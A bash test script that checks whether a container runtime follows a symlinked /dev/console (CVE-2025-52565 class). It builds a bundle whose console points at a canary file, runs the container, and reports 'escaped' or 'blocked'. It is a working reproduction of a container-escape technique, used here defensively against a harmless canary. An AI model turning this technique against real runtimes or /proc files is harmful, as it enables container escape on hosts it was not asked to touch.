#!/bin/bash
# CVE-2025-52565 class: with process.terminal the runtime bind-mounts the container's pty on
# /dev/console. Here /dev is a shared volume (a bind mount of a $WORK directory, so the runtime
# does not create /dev/console itself) in which `console` is a symlink to /canary/file, a file
# the container gets from $WORK/canarydir. A runtime that follows the symlink mounts the pty
# on that file instead (in runc's case this is how /proc files got hidden or made writable).
# The console socket is received by a small python3 receiver (recvtty).
# Escaped = inside the container, /canary/file is a character device or a mount point (it
# is the pty), as the container reports in a file of its rootfs.
. "$(dirname "$0")/lib.sh"

command -v python3 >/dev/null || finish error "python3 is needed for the console socket receiver"
mkdir -p "$WORK/canarydir" "$WORK/dev"
echo canary >"$WORK/canarydir/file"
ln -s /canary/file "$WORK/dev/console"
mknod -m 666 "$WORK/dev/null" c 1 3
ln -s pts/ptmx "$WORK/dev/ptmx"
B=$WORK/bundle
make_bundle "$B"
cfg "$B" --arg dev "$WORK/dev" --arg can "$WORK/canarydir" '.process.terminal = true
    | .mounts = [.mounts[] | if .destination == "/dev" then
            {destination: "/dev", type: "bind", source: $dev, options: ["rbind", "rw"]}
        else . end]
    + [{destination: "/canary", type: "bind", source: $can, options: ["rbind", "rw"]}]'
set_args "$B" sh -c 'exec >>/report 2>&1
    echo "console: $(ls -ld /dev/console)"
    echo "canary: $(ls -l /canary/file)"
    [ -c /canary/file ] && echo "CANARY-IS-CHARDEV"
    grep -E " /canary/file | /dev/console " /proc/self/mountinfo | sed "s/^/mount: /"
    echo done'

write_recvtty "$WORK/recvtty.py"
SOCK=$WORK/console.sock
python3 "$WORK/recvtty.py" "$SOCK" "$WORK/console.out" >"$WORK/recvtty.log" 2>&1 &
track_pid $!
wait_exists "$SOCK.ready" 5 || finish error "the console socket receiver did not start: $(oneline "$WORK/recvtty.log")"

ID=$ID_PREFIX
REPORT=$B/rootfs/report
if rt create --bundle "$B" --console-socket "$SOCK" "$ID" >"$WORK/out" 2>&1 </dev/null; then
    rt start "$ID" >>"$WORK/out" 2>&1 || log "start failed: $(oneline "$WORK/out")"
    wait_for "$REPORT" '^done' 10
else
    log "create failed: $(oneline "$WORK/out")"
fi
log "report:"
cat "$REPORT" 2>/dev/null
log "runtime output: $(oneline "$WORK/out" 5)"
log "recvtty: $(oneline "$WORK/recvtty.log" 3) $(head -c 200 "$WORK/console.out" 2>/dev/null | tr -cd '[:print:]')"
if grep -qE '^CANARY-IS-CHARDEV|^mount: .* /canary/file ' "$REPORT" 2>/dev/null; then
    finish escaped "/dev/console -> /canary/file: the pty was mounted on /canary/file ($(grep -m1 '^canary:' "$REPORT" | sed 's/^canary: //'))"
fi
if grep -q '^done' "$REPORT" 2>/dev/null; then
    finish blocked "the symlink was not followed: $(grep -m1 '^console:' "$REPORT" | sed 's/^console: //'); /canary/file stays a regular file"
fi
if grep -qiE 'console|symlink' "$WORK/out"; then
    finish blocked "the runtime refused the symlinked /dev/console: $(oneline "$WORK/out" 2)"
fi
finish error "the container did not run: $(oneline "$WORK/out" 3)"
